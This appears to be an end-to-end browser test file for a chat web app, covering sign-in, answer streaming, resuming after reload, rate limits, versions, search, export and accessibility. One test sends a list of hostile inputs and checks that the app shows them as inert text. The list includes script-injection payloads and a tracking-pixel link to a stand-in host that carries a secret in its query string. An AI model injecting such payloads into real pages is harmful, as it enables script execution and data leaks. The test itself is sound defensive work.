import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { expectAccessible } from "./axe.mjs";
import * as on from "./page.mjs";

/** Formatted text for a model that repeats what it is told; long enough to be met in the middle. */
const paragraphs = Array.from({ length: 60 }, (_, i) => `Sentence number ${i + 1} is here once.`).join("\n\n");
const formatted = `## A heading\n\nSome **bold** words.\n\n\`\`\`rust\nfn main() { let answer = 42; }\n\`\`\`\n\n${paragraphs}`;

const hostile = [
  "<img src=x onerror=\"window.owned=1\">",
  "<script>window.owned=1</script>",
  "<svg onload=window.owned=1><a xlink:href=javascript:alert(1)>s</a></svg>",
  "![pixel](http://evil.invalid/x.png?q=secret)",
  "[click](javascript:window.owned=1)",
  "[data](data:text/html,<script>window.owned=1</script>)",
  "<iframe src=http://evil.invalid></iframe>",
  "<style>@import url(http://evil.invalid/x.css);</style>",
  "A safe [link](https://example.org/).",
].join("\n\n");

export const steps = [
  ["the sign-in page is accessible and says what is wrong", signInPage],
  ["signing in", signIn],
  ["the empty chat is accessible", emptyChat],
  ["the models say whether they can be asked now", models],
  ["an answer streams as formatted text", streams],
  ["a reload in the middle continues, and a second tab shows the same", resumes],
  ["nothing is there twice", once],
  ["Stop keeps the partial text", stops],
  ["hostile output stays text", hostileOutput],
  ["a rate limit counts down and can be waited for", rateLimit],
  ["a chat is renamed and deleted", renameAndDelete],
  ["a failed answer says so after a reload, and can be tried again", failure],
  ["another answer and other words stand beside the former ones", versions],
  ["what is asked elsewhere appears, here and in the list", elsewhere],
  ["older messages can be reached, also where nothing can be scrolled", older],
  ["a chat is found by what was said in it, and saved", searchAndExport],
  ["a draft survives a reload", draft],
  ["the chat page is accessible, also in the dark and on a phone", accessible],
];

async function signInPage({ page, shot }) {
  await page.goto("/");
  await page.getByRole("button", { name: "Create one" }).click();
  await page.getByRole("textbox", { name: "Email" }).fill("nobody");
  await page.getByLabel("Password").fill("short");
  await page.getByRole("button", { name: "Create account" }).click();
  await page.getByRole("alert").filter({ hasText: /\w/ }).first().waitFor();
  await shot("sign-in-error");
  await expectAccessible(page, "sign-in page");
}

async function signIn({ page, welcome, account, shot }) {
  if (welcome) {
    await page.goto(welcome);
    // From `/` to `/welcome#…` is a new document, but from `/#…` it would not be.
    await on.composer(page).waitFor();
    assert.equal(new URL(page.url()).pathname, "/", "the one-time link must leave the address bar");
    assert.ok(!page.url().includes(new URL(welcome).hash.slice(1)), "the token must leave the address bar");
  } else {
    await page.getByRole("textbox", { name: "Email" }).fill(account.email);
    await page.getByLabel("Password").fill(account.password);
    await page.getByRole("button", { name: "Create account" }).click();
    await on.composer(page).waitFor();
  }
  const stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]));
  assert.ok(!/ey[\w-]+\.[\w-]+\./.test(stored), "no token may be stored where scripts can read it");
  await shot("empty");
}

async function emptyChat({ page }) {
  for (const name of [/Stream something long/, /Simulate a rate limit/, /Stop in the middle/]) await page.getByRole("button", { name }).waitFor();
  await expectAccessible(page, "empty chat");
}

async function models({ page, shot, isMock }) {
  const picker = (name) => page.getByRole("button", { name: `Model, ${name}` });
  const choose = async (name) => {
    await page.getByRole("menuitemradio", { name }).click();
    await page.getByRole("menu").waitFor({ state: "detached" });
  };
  await picker("").click();
  const standard = page.getByRole("menuitemradio", { name: /\(default\)/ });
  await standard.waitFor();
  assert.equal(await standard.getAttribute("aria-checked"), "true");
  // Of a server nobody knows what rests just now; the mock has one of each kind.
  if (isMock) for (const name of [/^sim-resting resting until (.+, )?\d\d:\d\d$/, /^sim-out not available now$/]) await page.getByRole("menuitemradio", { name }).waitFor();
  await shot("models");
  await expectAccessible(page, "menu of the models");
  await choose(/^sim-echo\b/);
  await picker("sim-echo").press("Enter");
  const focused = (pattern) => on.eventually(async () => assert.match(await page.evaluate(() => document.activeElement.ariaLabel ?? document.activeElement.innerText), pattern));
  await focused(/^sim-echo\b/);
  const above = (await page.getByRole("menuitemradio").allInnerTexts()).findIndex((text) => /^sim-echo\b/.test(text));
  for (let i = 0; i < above; i++) await page.keyboard.press("ArrowUp");
  await focused(/\(default\)/);
  await page.keyboard.press("Enter");
  await page.getByRole("menu").waitFor({ state: "detached" });
  await focused(/^Model, .*\(default\)/);
}

async function streams({ page, shot }) {
  // Slow enough to be met in the middle wherever the page is slow: some 36 seconds for two loads of the page.
  await on.chooseModel(page, "sim-echo,gap=100ms");
  await on.send(page, formatted);
  await page.getByText("Sentence number 1 is here once.").first().waitFor();
  await on.answers(page).last().getByRole("heading", { name: "A heading" }).waitFor();
  await on.answers(page).last().locator("code .hljs-keyword").first().waitFor();
  await on.stopButton(page).waitFor();
  assert.equal(await on.transcript(page).getAttribute("aria-live"), "off", "the transcript is silent while it grows");
  await shot("streaming");
}

async function resumes({ page, context, shot }) {
  await on.grown(page, 300);
  await page.reload();
  await on.stopButton(page).waitFor();
  const second = await context.newPage();
  await second.goto(page.url());
  await on.stopButton(second).waitFor();
  await shot("second-tab", second);
  await on.settled(second);
  await on.settled(page);
  assert.equal(await on.answerText(second), await on.answerText(page), "both tabs show the same answer");
  await second.close();
}

async function once({ page }) {
  const check = async (when) => {
    const text = await on.answerText(page);
    for (const i of [1, 30, 60]) assert.equal(text.split(`Sentence number ${i} is here once.`).length - 1, 1, `sentence ${i}, ${when}`);
    assert.equal(await on.answers(page).count(), 1, `one answer, ${when}`);
  };
  await check("after the stream");
  await on.tokens(on.answers(page)).waitFor();
  await page.reload();
  await on.settled(page);
  await check("from the stored message");
  await on.tokens(on.answers(page)).waitFor();
}

async function stops({ page, shot }) {
  await on.send(page, formatted);
  await on.grown(page, 120);
  await page.keyboard.press("Escape");
  await page.getByText("Stopped by you, partial kept").waitFor();
  await on.settled(page);
  const text = await on.answerText(page);
  assert.ok(text.length >= 100 && !text.includes("Sentence number 60"), `the answer is partial: ${text.length} characters`);
  await shot("stopped");
  await page.reload();
  await on.settled(page);
  assert.ok((await on.answerText(page)).startsWith(text.slice(0, 100)), "the partial text is stored");
}

async function hostileOutput({ page, faults, shot }) {
  await on.newChat(page);
  await on.chooseModel(page, "sim-echo");
  await on.send(page, hostile);
  await on.settled(page);
  const found = await on.answers(page).last().evaluate((article) => ({
    handlers: [...article.querySelectorAll("*")].flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith("on")).map((a) => `${e.tagName} ${a.name}`)),
    loading: article.querySelectorAll("img, script, iframe, style, link, object, embed, form, video, audio, base, meta").length,
    links: [...article.querySelectorAll("a")].map((a) => ({ href: a.getAttribute("href"), rel: a.rel, target: a.target })),
    owned: window.owned ?? null,
  }));
  assert.deepEqual(found.handlers, [], "no event handler attributes");
  assert.equal(found.loading, 0, "nothing that loads or runs");
  assert.equal(found.owned, null, "nothing ran");
  for (const { href, rel, target } of found.links) {
    assert.match(href, /^https?:/, `a link to ${href}`);
    assert.equal(`${rel} ${target}`, "noopener noreferrer _blank");
  }
  assert.ok(found.links.some((link) => link.href === "https://example.org/"), "safe links work");
  assert.deepEqual(faults, [], "no request left this origin");
  await shot("hostile");
}

async function rateLimit({ page, shot }) {
  await on.newChat(page);
  await page.getByRole("button", { name: /Simulate a rate limit/ }).click();
  const counting = page.getByText(/Rate limited, retrying in \d+:\d\d \(attempt \d+\)/);
  const cancel = page.getByRole("button", { name: "Cancel", exact: true });
  const stopped = page.getByText("Stopped by you", { exact: true });
  await counting.waitFor();
  await cancel.click();
  await stopped.waitFor();
  // That one waits no longer than nine seconds, which a busy machine needs to look at a page as closely as this.
  await on.newChat(page);
  await on.chooseModel(page, "sim-demo,status=429,retry-after=10,fail=3");
  await on.send(page, "Is it my turn?");
  await counting.waitFor();
  await cancel.waitFor();
  await shot("rate-limit");
  await expectAccessible(page, "waiting chat");
  await cancel.click();
  await stopped.waitFor();
}

async function renameAndDelete({ page, shot }) {
  const options = (title) => page.getByRole("button", { name: `Options of ${title}`, exact: true });
  await options("Is it my turn?").click();
  await page.getByRole("menuitem", { name: "Rename" }).waitFor();
  await shot("menu");
  await expectAccessible(page, "menu of a chat");
  await page.getByRole("menuitem", { name: "Rename" }).click();
  await page.getByRole("textbox", { name: "Name of the chat" }).fill("A new name");
  await page.keyboard.press("Enter");
  await page.getByRole("link", { name: "A new name" }).waitFor();
  await page.getByRole("heading", { name: "A new name", level: 1 }).waitFor();
  await options("A new name").click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("dialog", { name: "Delete this chat?" }).waitFor();
  await expectAccessible(page, "dialog");
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  await page.getByRole("link", { name: "A new name" }).waitFor({ state: "detached" });
}

async function failure({ page, shot }) {
  await on.newChat(page);
  await on.chooseModel(page, "sim-demo,status=400");
  await on.send(page, "Is anybody there?");
  const failed = () => page.getByText(/^Failed: .+ id /).waitFor();
  await failed();
  await page.reload();
  await failed();
  await shot("failed");
  await expectAccessible(page, "failed chat");
  await on.chooseModel(page, "sim-echo");
  await page.getByRole("button", { name: "Try again" }).click();
  await on.settled(page);
  assert.match(await on.answerText(page), /Is anybody there\?/);
  assert.equal(await on.answers(page).count(), 1, "the new answer, in the place of the failed one");
  assert.equal(await page.getByText("You said").count(), 1, "the question is there once");
  // What is chosen for a new chat is kept for the next one.
  await on.newChat(page);
  await on.chooseModel(page, "sim-echo");
}

async function versions({ page, shot }) {
  await on.send(page, "First question");
  await on.settled(page);
  await on.send(page, "Second question");
  await on.settled(page);
  await page.getByRole("button", { name: "Answer again" }).last().click();
  await on.version(page).filter({ hasText: "Version 2 of 2" }).waitFor();
  await on.settled(page);
  await page.getByRole("button", { name: "Previous version" }).press("Enter");
  await on.version(page).filter({ hasText: "Version 1 of 2" }).waitFor();
  await on.focusOn(page, "Previous version");
  const question = on.messages(page).filter({ hasText: "First question" }).first();
  await question.hover();
  await page.getByRole("button", { name: "Edit the message" }).first().click();
  await shot("editing");
  await expectAccessible(page, "message that is edited");
  await page.getByRole("textbox", { name: "Message in other words" }).fill("Question in other words");
  await page.keyboard.press("Enter");
  await on.answers(page).last().getByText("Question in other words").waitFor();
  await on.settled(page);
  assert.equal(await on.messages(page).count(), 2, "the other line is out of sight");
  await shot("versions");
  await expectAccessible(page, "chat with versions");
  await page.getByRole("button", { name: "Previous version" }).click();
  await page.getByText("Second question").first().waitFor();
  // What is asked next follows what is shown.
  await on.send(page, "Third question");
  await on.settled(page);
  const shown = async () => (await on.messages(page).allInnerTexts()).join(" ").replace(/\s+/g, " ");
  assert.match(await shown(), /First question.*Second question.*Third question/);
  await page.reload();
  await on.settled(page);
  assert.match(await shown(), /First question.*Second question.*Third question/, "also after a reload");
  assert.equal(await on.tokens(on.answers(page)).count(), await on.answers(page).count(), "each answer says what it took");
}

async function elsewhere({ page, base }) {
  const send = await on.program(page, base);
  await on.settled(page);
  const here = page.url().split("/").at(-1);
  const ask = (chat, userMessage) => send(`/api/chats/${chat}/generations`, { userMessage, model: "sim-echo", requestId: crypto.randomUUID() });
  const before = await on.answers(page).count();
  await ask(here, "Asked on another device.");
  await on.answers(page).nth(before).getByText("Asked on another device.").waitFor();
  await on.settled(page);
  const { id: there } = await send("/api/chats", { title: "Made on another device" });
  const link = page.getByRole("link", { name: /^Made on another device/ });
  await link.waitFor();
  for (const word of ["One", "Two"]) {
    await ask(there, `${word} more.`);
    await link.getByText("new answer").waitFor();
    await page.getByTestId("announcements").getByText("The answer in Made on another device is complete").waitFor();
    await link.click();
    await on.answers(page).getByText(`${word} more.`).waitFor();
    await link.getByText("new answer").waitFor({ state: "detached" });
    await page.goBack();
    await on.answers(page).nth(before).waitFor();
  }
}

/** Some more than a page. */
const NOTES = 24;

async function older({ page, base }) {
  const send = await on.program(page, base);
  const { id } = await send("/api/chats", { title: "A long chat" });
  for (let i = 1; i <= NOTES; i++) await send(`/api/chats/${id}/messages`, { content: `Note ${i}.`, generate: false });
  const size = page.viewportSize();
  await page.setViewportSize({ width: size.width, height: 4000 });
  await page.goto(`/#/chats/${id}`);
  await page.getByText("Note 1.", { exact: true }).waitFor();
  await page.setViewportSize(size);
  await page.reload();
  await page.getByText(`Note ${NOTES}.`, { exact: true }).waitFor();
  assert.equal(await page.getByText("Note 1.", { exact: true }).count(), 0, "a page at a time");
  // The first one that is shown stays where it is when those before it come.
  const first = await on.messages(page).first().locator("div div").first().innerText();
  const place = () => page.getByText(first, { exact: true }).evaluate((message) => Math.round(message.getBoundingClientRect().top));
  await page.getByRole("button", { name: "Show older messages" }).waitFor({ state: "attached" });
  const before = await on.transcript(page).evaluate((log, text) => {
    const top = () => [...log.querySelectorAll("article div div")].find((message) => message.textContent === text).getBoundingClientRect().top;
    log.scrollTop = 0;
    return Math.round(top());
  }, first);
  await page.getByText("Note 1.", { exact: true }).waitFor({ state: "attached" });
  assert.ok(Math.abs((await place()) - before) <= 2, `${first} was at ${before}, and is at ${await place()}`);
  assert.equal(await on.messages(page).count(), NOTES);
  await on.newChat(page);
}

async function searchAndExport({ page, shot }) {
  await page.keyboard.press("Alt+s");
  await on.focusOn(page, "Search chats");
  await page.keyboard.type("note 17");
  const found = page.getByRole("navigation", { name: "Chats found" });
  await found.getByRole("heading", { name: "One chat found" }).waitFor();
  assert.match(await found.getByRole("link").innerText(), /^A long chat/);
  await shot("search");
  await expectAccessible(page, "search");
  for (const [format, check] of [["Markdown", /Note 1\.[^]*Note 24\./], ["JSON", /^\{"chat"[^]*Note 24\./]]) {
    await found.getByRole("button", { name: /^Options of/ }).click();
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("menuitem", { name: `Export as ${format}` }).click()]);
    assert.match(download.suggestedFilename(), /^A-long-chat\.(md|json)$/);
    assert.match(readFileSync(await download.path(), "utf8"), check);
  }
  await found.getByRole("link").click();
  await page.getByText(`Note ${NOTES}.`, { exact: true }).waitFor();
  await page.getByRole("searchbox", { name: "Search chats" }).press("Escape");
  await found.waitFor({ state: "detached" });
  await on.newChat(page);
}

async function draft({ page }) {
  await on.composer(page).fill("Not sent yet");
  await page.reload();
  await on.composer(page).waitFor();
  await on.eventually(async () => assert.equal(await on.composer(page).inputValue(), "Not sent yet"));
  await on.composer(page).fill("");
}

async function accessible({ page, shot }) {
  await page.getByRole("navigation", { name: "Your chats" }).getByRole("link").last().click();
  await on.settled(page);
  await expectAccessible(page, "chat page");
  await shot("chat-light");
  await page.getByRole("button", { name: /^Account and theme/ }).click();
  await page.getByText(/^(Today [\d,]+ in · [\d,]+ out|Nothing spent today)/).waitFor();
  await page.getByRole("menuitemradio", { name: "Dark" }).click();
  await shot("theme-menu");
  await page.keyboard.press("Escape");
  await page.getByRole("menu").waitFor({ state: "detached" });
  await expectAccessible(page, "dark chat page");
  await shot("chat-dark");
  await page.setViewportSize({ width: 390, height: 844 });
  const list = page.getByRole("button", { name: "List of chats", exact: true });
  await list.waitFor();
  await shot("phone-dark");
  await expectAccessible(page, "phone");
  await list.click();
  await page.getByRole("button", { name: "Close", exact: true }).waitFor();
  await shot("phone-drawer");
  await expectAccessible(page, "drawer on a phone");
}
